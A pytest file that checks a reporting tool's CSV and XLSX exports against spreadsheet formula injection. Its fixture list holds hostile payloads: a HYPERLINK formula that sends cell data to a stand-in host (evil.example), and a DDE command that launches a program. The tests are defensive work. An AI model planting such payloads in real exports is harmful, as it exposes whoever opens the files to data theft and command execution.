"""Spreadsheet formula injection: text from CDRs/CSV never becomes a live formula."""

from __future__ import annotations

import csv
import importlib.util
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from qaclient.cli.main import main
from qaclient.reports.common import Table
from qaclient.reports.export import FORMULA_START, safe_text, write_csv_single, write_xlsx
from qaclient.storage.models.users import User

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def test_safe_text_neutralises_every_formula_start() -> None:
    for text in HOSTILE:
        assert safe_text(text) == "'" + text
    assert safe_text("alice") == "alice" and safe_text("") == ""
    assert safe_text(Decimal("-1.5")) == Decimal("-1.5") and safe_text(-3) == -3
    assert set(FORMULA_START) == {"=", "+", "-", "@", "\t", "\r"}


def test_csv_and_xlsx_keep_hostile_text_as_text(tmp_path: Path) -> None:
    table = Table("t", ["agent", "score"], [[h, Decimal("-1.5")] for h in HOSTILE])
    out_csv = write_csv_single([table], tmp_path / "t.csv")
    with out_csv.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))[2:]
    assert [r[0] for r in rows] == ["'" + h for h in HOSTILE]
    assert all(r[1] == "-1.5" for r in rows)  # a negative number is not a formula
    out_xlsx = write_xlsx([table], tmp_path / "t.xlsx")
    ws = load_workbook(out_xlsx)["t"]
    cells = [ws.cell(r, 1) for r in range(2, 2 + len(HOSTILE))]
    # (XML stores a carriage return as a line feed)
    assert [c.value for c in cells] == [h.replace("\r", "\n") for h in HOSTILE]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert all(ws.cell(r, 2).value == -1.5 for r in range(2, 2 + len(HOSTILE)))


def _dataset():
    path = Path(__file__).resolve().parents[1] / "reports" / "dataset.py"
    spec = importlib.util.spec_from_file_location("hostile_reports_dataset", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_kpi_export_with_hostile_team_names(col, tmp_path: Path, fmt: str) -> None:
    _dataset().build(col)
    with col.Session.begin() as s:
        s.execute(update(User).where(User.team == "red").values(team=HOSTILE[0]))
        s.execute(update(User).where(User.team == "blue").values(team=HOSTILE[1]))
    out = tmp_path / f"kpi.{fmt}"
    assert main(["report", "kpi", "--month", "2026-10", "--format", fmt, "-o", str(out)]) == 0
    if fmt == "csv":
        text = out.read_text(encoding="utf-8-sig")
        assert "'" + HOSTILE[0].replace('"', '""') in text
        for row in csv.reader(text.splitlines()):
            assert not any(cell.startswith(("=", "+", "@")) for cell in row), row
    else:
        wb = load_workbook(out)
        seen = 0
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                    seen += cell.value in HOSTILE[:2]
        assert seen, "the hostile team names are in the report"
